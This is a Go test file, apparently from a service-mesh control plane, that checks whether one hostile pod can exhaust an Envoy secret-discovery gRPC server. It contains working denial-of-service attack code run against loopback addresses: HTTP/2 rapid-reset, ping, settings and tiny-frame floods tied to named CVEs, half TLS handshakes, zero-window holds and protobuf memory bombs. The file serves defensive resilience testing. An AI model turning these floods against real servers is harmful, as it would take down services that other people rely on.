//go:build hostile

package controlplane

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	secretv3 "github.com/envoyproxy/go-control-plane/envoy/service/secret/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sync/errgroup"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/metadata"
	"google.golang.org/protobuf/proto"

	"github.com/osm-edge/osm/test/attack"
)

const (
	// Addresses of the loopback interface stand for pods.
	attackerAddress  = "127.0.0.2"
	neighbourAddress = "127.0.0.3"
	gatewayAddress   = "127.0.0.4" // where the pods of a node come from that are translated

	// attackMemory is what one pod may take, whatever it does.
	attackMemory = 5 << 20
	// noticed is how late a neighbour would notice.
	noticed = time.Second
	// floodTime is how long a flood lasts.
	floodTime = 3 * time.Second
	// attackerToken is that of the one pod that attacks.
	attackerToken = "thief/pod-of-the-thief"
)

// counter counts the lines that are written to it.
type counter struct{ atomic.Int64 }

func (c *counter) Write(b []byte) (int, error) {
	c.Add(int64(bytes.Count(b, []byte("\n"))))
	return len(b), nil
}

func dialFrom(address string) func(ctx context.Context, to string) (net.Conn, error) {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(address)}, Timeout: 5 * time.Second}
	return func(ctx context.Context, to string) (net.Conn, error) { return dialer.DialContext(ctx, "tcp", to) }
}

func (s *sdsServer) tls() *tls.Config {
	return &tls.Config{MinVersion: tls.VersionTLS13, RootCAs: s.roots.Pool(), ServerName: sdsServerName, NextProtos: []string{"h2"}}
}

// connect returns a gRPC connection from an address.
func (s *sdsServer) connect(t *testing.T, from string, more ...grpc.DialOption) (secretv3.SecretDiscoveryServiceClient, func()) {
	t.Helper()
	conn := must[*grpc.ClientConn](t)(grpc.NewClient("passthrough:///"+s.address, append(more,
		grpc.WithContextDialer(dialFrom(from)), grpc.WithTransportCredentials(credentials.NewTLS(s.tls())))...))
	return secretv3.NewSecretDiscoveryServiceClient(conn), sync.OnceFunc(func() { _ = conn.Close() })
}

func as(ctx context.Context, token string) context.Context {
	return metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+token)
}

// open connects a proxy, and returns its stream once it has its secrets.
func (s *sdsServer) open(t *testing.T, ctx context.Context, from, token string) (secretv3.SecretDiscoveryService_StreamSecretsClient, func(), error) {
	client, end := s.connect(t, from)
	stream, err := client.StreamSecrets(as(ctx, token), grpc.WaitForReady(true))
	if err == nil {
		err = stream.Send(&discoveryv3.DiscoveryRequest{ResourceNames: []string{"default", "ROOTCA"}})
	}
	if err == nil {
		_, err = stream.Recv()
	}
	if err != nil {
		end()
	}
	return stream, end, err
}

// neighbours are proxies that have done nothing.
type neighbours struct {
	server  *sdsServer
	streams []secretv3.SecretDiscoveryService_StreamSecretsClient
	made    int
}

func (s *sdsServer) neighbours(t *testing.T) *neighbours {
	n := &neighbours{server: s}
	for i := range 20 {
		stream, end, err := s.open(t, t.Context(), neighbourAddress, fmt.Sprintf("buyer/neighbour-%d", i))
		check(t, err)
		t.Cleanup(end)
		n.streams = append(n.streams, stream)
	}
	return n
}

// notice returns how long a push takes to reach all of them, and how long a new
// one takes to get its certificate.
func (n *neighbours) notice(t *testing.T) (push, connect time.Duration, err error) {
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	began := time.Now()
	n.server.tell("trust")
	var group errgroup.Group
	for _, stream := range n.streams {
		group.Go(func() error {
			r, err := stream.Recv()
			if err != nil {
				return fmt.Errorf("a neighbour lost its stream: %w", err)
			}
			return stream.Send(&discoveryv3.DiscoveryRequest{ResourceNames: []string{"default", "ROOTCA"}, VersionInfo: r.GetVersionInfo(), ResponseNonce: r.GetNonce()})
		})
	}
	if err := group.Wait(); err != nil {
		return 0, 0, err
	}
	push, began = time.Since(began), time.Now()
	n.made++
	_, end, err := n.server.open(t, ctx, neighbourAddress, fmt.Sprintf("buyer/new-%d", n.made))
	if err != nil {
		return push, 0, fmt.Errorf("a new neighbour cannot connect: %w", err)
	}
	end()
	return push, time.Since(began), nil
}

// held is an attack that holds what it took until it is released.
type held func(t *testing.T, s *sdsServer) (took string, release func())

// TestOnePodCannotExhaustSDS has one pod do its worst. Its memory is measured
// while it holds what it has, and what its neighbours notice meanwhile.
func TestOnePodCannotExhaustSDS(t *testing.T) {
	s := startSDSServer(t)
	n := s.neighbours(t)
	_, _, err := n.notice(t) // the first of everything
	check(t, err)
	for _, a := range []struct {
		what string
		held held
	}{
		{"1,024 addresses on each stream of 32 connections", holdAddresses},
		{"connections that never begin TLS", holdSilent},
		{"half of a TLS handshake", holdHello},
		{"TLS without HTTP/2", holdTLS},
		{"HTTP/2 without a stream", holdHTTP2},
		{"streams without a token", holdStrangers},
		{"streams that begin over and over", floodStreams},
		{"streams that are reset at once (CVE-2023-44487)", floodResets},
		{"connections, as fast as they open", floodConnections},
		{"TLS handshakes, as fast as they go", floodHandshakes},
		{"pings and settings (CVE-2019-9512, CVE-2019-9515)", floodControl},
		{"a proxy that reads nothing", holdZeroWindow},
		{"a proxy that reads nothing of its socket", holdDeafSocket},
		{"requests in DATA frames of a byte (CVE-2019-9518)", holdTinyFrames},
		{"requests that have only begun", holdHalfRequests},
		{"requests of empty messages", floodBombs},
		{"requests and rejections, as fast as they go", floodRequests},
	} {
		attack.Refused(t, "sds", a.what, func(t *testing.T) (string, error) {
			before := s.settled()
			took, release := a.held(t, s)
			defer release()
			push, connect, err := n.notice(t)
			if err != nil {
				return "", err
			}
			grown := s.settled() - before
			figures := fmt.Sprintf("%s; it took %.1f MB; a push took %s, a new proxy %s", took, float64(grown)/(1<<20),
				push.Round(time.Millisecond), connect.Round(time.Millisecond))
			if grown > attackMemory || push > noticed || connect > noticed {
				return "", errors.New(figures)
			}
			return figures, nil
		})
	}
	attack.Refused(t, "sds", "to fill the log", func(t *testing.T) (string, error) {
		lines := s.number("lines")
		if lines > 500 {
			return "", fmt.Errorf("all of this made %d lines", lines)
		}
		return fmt.Sprintf("all of this made %d lines", lines), nil
	})
	controls(t, s)
}

func controls(t *testing.T, s *sdsServer) {
	attack.Works(t, "sds", "a pod that connects anew while its former connections are half open", func(t *testing.T) (string, error) {
		var ends []func()
		defer func() {
			for _, end := range ends {
				end()
			}
		}()
		for i := range 40 {
			_, end, err := s.open(t, t.Context(), "127.0.0.5", "store/reconnecting")
			if err != nil {
				return "", fmt.Errorf("connection %d: %w", i, err)
			}
			ends = append(ends, end)
		}
		return "40 times", nil
	})
	attack.Works(t, "sds", "the 250 pods of a node behind one address", func(t *testing.T) (string, error) {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		began := time.Now()
		var group errgroup.Group
		group.SetLimit(64)
		for i := range 250 {
			group.Go(func() error {
				stream, end, err := s.open(t, ctx, gatewayAddress, fmt.Sprintf("store/node-%d", i))
				if err != nil {
					return err
				}
				t.Cleanup(end)
				return stream.Send(&discoveryv3.DiscoveryRequest{ResourceNames: []string{"default", "ROOTCA"}})
			})
		}
		return "in " + time.Since(began).Round(time.Millisecond).String(), group.Wait()
	})
}

func holdAddresses(t *testing.T, s *sdsServer) (string, func()) {
	ctx, cancel := context.WithCancel(t.Context())
	names := []string{"default", "ROOTCA"}
	for i := range 1024 {
		names = append(names, fmt.Sprintf("peers:10.9.%d.%d", i/256, i%256))
	}
	var ends []func()
	var answered atomic.Int64
	for range 32 {
		client, end := s.connect(t, attackerAddress)
		ends = append(ends, end)
		var group sync.WaitGroup
		for range 128 {
			group.Go(func() {
				ctx, enough := context.WithTimeout(ctx, 3*time.Second) // the server may let no more begin
				defer time.AfterFunc(time.Minute, enough)
				stream, err := client.StreamSecrets(as(ctx, attackerToken))
				if err != nil || stream.Send(&discoveryv3.DiscoveryRequest{ResourceNames: names}) != nil {
					return
				}
				if _, err := stream.Recv(); err == nil {
					answered.Add(1)
				}
			})
		}
		group.Wait()
		if answered.Load() > 256 {
			break // that is enough to see it
		}
	}
	return fmt.Sprintf("%d streams were answered", answered.Load()), func() {
		cancel()
		for _, end := range ends {
			end()
		}
	}
}

// raw opens connections, and hands each to begin, which may keep it.
func raw(t *testing.T, s *sdsServer, count int, begin func(c net.Conn) error) (string, func()) {
	dial, kept := dialFrom(attackerAddress), make(chan net.Conn, count)
	var group errgroup.Group
	group.SetLimit(16)
	for range count {
		group.Go(func() error {
			c, err := dial(t.Context(), s.address)
			if err != nil {
				return nil // refused is what it is to be
			}
			kept <- c
			_ = c.SetDeadline(time.Now().Add(10 * time.Second)) // for what begins
			_ = begin(c)
			return nil
		})
	}
	_ = group.Wait() // nothing fails
	close(kept)
	var all []net.Conn
	for c := range kept {
		all = append(all, c)
	}
	return fmt.Sprintf("%d of %d connections were opened", len(all), count), func() {
		for _, c := range all {
			_ = c.Close()
		}
	}
}

func holdSilent(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 1000, func(net.Conn) error { return nil })
}

func holdHello(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 500, func(c net.Conn) error {
		// A record that announces 16 kB of a ClientHello of 60 kB, and most of it.
		_, err := c.Write(append([]byte{22, 3, 1, 0x40, 0, 1, 0, 0xea, 0x60}, make([]byte, 16000)...))
		return err
	})
}

func holdTLS(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 500, func(c net.Conn) error { return tls.Client(c, s.tls()).Handshake() })
}

// http2Client is a client that keeps to nothing.
type http2Client struct {
	*http2.Framer
	conn    *tls.Conn
	out     *bytes.Buffer // what is written at once
	headers *hpack.Encoder
	block   bytes.Buffer
}

// newHTTP2 ends the TLS handshake and HTTP/2's, and reads what comes for as long
// as read is true.
func newHTTP2(c net.Conn, s *sdsServer, read bool, settings ...http2.Setting) (*http2Client, error) {
	secured := tls.Client(c, s.tls())
	if err := secured.Handshake(); err != nil {
		return nil, err
	}
	h := &http2Client{conn: secured, out: &bytes.Buffer{}}
	h.headers = hpack.NewEncoder(&h.block)
	h.Framer = http2.NewFramer(h.out, nil)
	h.out.WriteString(http2.ClientPreface)
	if err := h.WriteSettings(settings...); err != nil {
		return nil, err
	}
	if read {
		go func() { _, _ = io.Copy(io.Discard, secured) }() // until the connection is closed
	}
	return h, h.flush()
}

func (h *http2Client) flush() error {
	_ = h.conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
	_, err := h.conn.Write(h.out.Bytes())
	h.out.Reset()
	return err
}

// begin begins a stream of the token, of none if that is empty.
func (h *http2Client) begin(stream uint32, method, token string) error {
	h.block.Reset()
	fields := [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", sdsServerName},
		{":path", "/envoy.service.secret.v3.SecretDiscoveryService/" + method}, {"content-type", "application/grpc"}, {"te", "trailers"}}
	if token != "" {
		fields = append(fields, [2]string{"authorization", "Bearer " + token})
	}
	for _, f := range fields {
		if err := h.headers.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: h.block.Bytes(), EndHeaders: true})
}

// request frames a message as gRPC does.
func request(m proto.Message) []byte {
	body, err := proto.Marshal(m)
	if err != nil {
		panic(err)
	}
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(body))), body...)
}

func holdHTTP2(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 500, func(c net.Conn) error { _, err := newHTTP2(c, s, true); return err })
}

func holdStrangers(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 100, func(c net.Conn) error {
		h, err := newHTTP2(c, s, true)
		for i := uint32(0); err == nil && i < 64; i++ {
			if err = h.begin(2*i+1, "StreamSecrets", ""); err == nil {
				err = h.flush()
			}
		}
		return err
	})
}

// flood has a few connections do something over and over, for a while.
func flood(t *testing.T, s *sdsServer, connections int, read bool, again func(h *http2Client, i uint32) error) (string, func()) {
	until, rounds := time.Now().Add(floodTime), atomic.Int64{}
	ctx, cancel := context.WithCancel(t.Context())
	var group sync.WaitGroup
	dial := dialFrom(attackerAddress)
	for range connections {
		group.Go(func() {
			for time.Now().Before(until.Add(10*floodTime)) && ctx.Err() == nil {
				c, err := dial(ctx, s.address)
				if err != nil {
					<-time.After(10 * time.Millisecond) // refused, it tries again
					continue
				}
				h, err := newHTTP2(c, s, read)
				for i := uint32(0); err == nil && ctx.Err() == nil && i < 1<<30; i++ {
					if err = again(h, i); err == nil {
						err = h.flush()
					}
					rounds.Add(1)
				}
				_ = c.Close()
			}
		})
	}
	<-time.After(time.Until(until))
	return fmt.Sprintf("%d rounds in %s", rounds.Load(), floodTime), func() {
		cancel()
		group.Wait()
	}
}

func floodStreams(t *testing.T, s *sdsServer) (string, func()) {
	return flood(t, s, 4, true, func(h *http2Client, i uint32) error { return h.begin(2*i+1, "StreamSecrets", "thief/pod") })
}

func floodResets(t *testing.T, s *sdsServer) (string, func()) {
	return flood(t, s, 4, true, func(h *http2Client, i uint32) error {
		if err := h.begin(2*i+1, "StreamSecrets", attackerToken); err != nil {
			return err
		}
		return h.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
	})
}

func floodControl(t *testing.T, s *sdsServer) (string, func()) {
	return flood(t, s, 4, true, func(h *http2Client, i uint32) error {
		for range 100 {
			if err := errors.Join(h.WriteSettings(), h.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 0}), h.WriteWindowUpdate(0, 1)); err != nil {
				return err
			}
		}
		return h.WritePing(false, [8]byte{})
	})
}

// connecting opens connections over and over, in the background.
func connecting(t *testing.T, s *sdsServer, then func(net.Conn)) (string, func()) {
	ctx, cancel := context.WithCancel(t.Context())
	var group sync.WaitGroup
	var opened atomic.Int64
	dial := dialFrom(attackerAddress)
	for range 4 {
		group.Go(func() {
			for ctx.Err() == nil {
				c, err := dial(ctx, s.address)
				if err != nil {
					<-time.After(time.Millisecond)
					continue
				}
				_ = c.SetDeadline(time.Now().Add(5 * time.Second))
				then(c)
				_ = c.(*net.TCPConn).SetLinger(0) // or the machine runs out of ports
				_ = c.Close()
				if opened.Add(1) > 20000 {
					return
				}
			}
		})
	}
	<-time.After(floodTime)
	return fmt.Sprintf("%d connections in %s", opened.Load(), floodTime), func() {
		cancel()
		group.Wait()
	}
}

func floodConnections(t *testing.T, s *sdsServer) (string, func()) {
	return connecting(t, s, func(net.Conn) {})
}

func floodHandshakes(t *testing.T, s *sdsServer) (string, func()) {
	return connecting(t, s, func(c net.Conn) { _ = tls.Client(c, s.tls()).Handshake() })
}

// subscribe begins a stream of the attacker's pod.
func (h *http2Client) subscribe(stream uint32, names ...string) error {
	if err := h.begin(stream, "DeltaSecrets", attackerToken); err != nil {
		return err
	}
	return h.WriteData(stream, false, request(&discoveryv3.DeltaDiscoveryRequest{ResourceNamesSubscribe: names}))
}

// greedy are names that are answered at length.
func greedy() []string {
	names := []string{"default", "ROOTCA"}
	for i := range 60 {
		names = append(names, fmt.Sprintf("root-cert-for-mtls-outbound:shop/s%d", i))
	}
	return names
}

func holdUnread(t *testing.T, s *sdsServer, read bool, settings ...http2.Setting) (string, func()) {
	return raw(t, s, 64, func(c net.Conn) error {
		if !read {
			_ = c.(*net.TCPConn).SetReadBuffer(4 << 10)
		}
		h, err := newHTTP2(c, s, read, settings...)
		if err != nil {
			return err
		}
		for i := range uint32(16) {
			if err := errors.Join(h.subscribe(2*i+1, greedy()...), h.flush()); err != nil {
				return err
			}
		}
		for range 20 { // what is subscribed to again is sent again
			for i := range uint32(16) {
				again := request(&discoveryv3.DeltaDiscoveryRequest{ResourceNamesSubscribe: greedy()})
				if err := errors.Join(h.WriteData(2*i+1, false, again), h.flush()); err != nil {
					return err
				}
			}
		}
		return nil
	})
}

func holdZeroWindow(t *testing.T, s *sdsServer) (string, func()) {
	return holdUnread(t, s, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

func holdDeafSocket(t *testing.T, s *sdsServer) (string, func()) {
	return holdUnread(t, s, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
}

func holdTinyFrames(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 16, func(c net.Conn) error {
		h, err := newHTTP2(c, s, true)
		for i := uint32(0); err == nil && i < 16; i++ {
			if err = h.subscribe(2*i+1, "default"); err != nil {
				break
			}
			if err = h.WriteData(2*i+1, false, []byte{0, 0, 0, 0xff, 0x00}); err != nil {
				break
			}
			for j := 0; err == nil && j < 60000; j++ {
				if err = h.WriteData(2*i+1, false, []byte{0}); err == nil && h.out.Len() > 10000 {
					err = h.flush()
				}
			}
		}
		return err
	})
}

func holdHalfRequests(t *testing.T, s *sdsServer) (string, func()) {
	return raw(t, s, 64, func(c net.Conn) error {
		h, err := newHTTP2(c, s, true)
		for i := uint32(0); err == nil && i < 16; i++ {
			err = errors.Join(h.subscribe(2*i+1, "default"), h.WriteData(2*i+1, false, []byte{0, 0, 0, 0xff, 0x00}))
			for range 3 {
				err = errors.Join(err, h.WriteData(2*i+1, false, make([]byte, 16<<10)))
			}
			err = errors.Join(err, h.flush())
		}
		return err
	})
}

// floodBombs sends requests that are small on the wire and large in memory.
func floodBombs(t *testing.T, s *sdsServer) (string, func()) {
	node := &corev3.Node{}
	for range 20000 {
		node.Extensions = append(node.Extensions, &corev3.Extension{})
	}
	bomb := request(&discoveryv3.DeltaDiscoveryRequest{Node: node, ResourceNamesSubscribe: []string{"default"}})
	return flood(t, s, 4, true, func(h *http2Client, i uint32) error {
		stream := 2*(i/4) + 1
		if i%4 == 0 {
			if err := h.begin(stream, "DeltaSecrets", attackerToken); err != nil {
				return err
			}
		}
		for part := bomb; len(part) > 0; {
			n := min(len(part), 16<<10)
			if err := h.WriteData(stream, false, part[:n]); err != nil {
				return err
			}
			part = part[n:]
		}
		return nil
	})
}

func floodRequests(t *testing.T, s *sdsServer) (string, func()) {
	names := greedy()
	for i := range 900 {
		names = append(names, fmt.Sprintf("peers:10.9.%d.%d", i/256, i%256))
	}
	ask := request(&discoveryv3.DeltaDiscoveryRequest{ResourceNamesSubscribe: names, ResourceNamesUnsubscribe: names[62:]})
	giant := request(&discoveryv3.DeltaDiscoveryRequest{ResourceNamesSubscribe: []string{"peers:" + strings.Repeat("1", 60000)}})
	return flood(t, s, 4, true, func(h *http2Client, i uint32) error {
		if i == 0 {
			if err := h.begin(1, "DeltaSecrets", attackerToken); err != nil {
				return err
			}
		}
		body := ask
		if i%500 == 499 {
			body = giant
		}
		for len(body) > 0 {
			n := min(len(body), 16<<10)
			if err := h.WriteData(1, false, body[:n]); err != nil {
				return err
			}
			body = body[n:]
		}
		return nil
	})
}
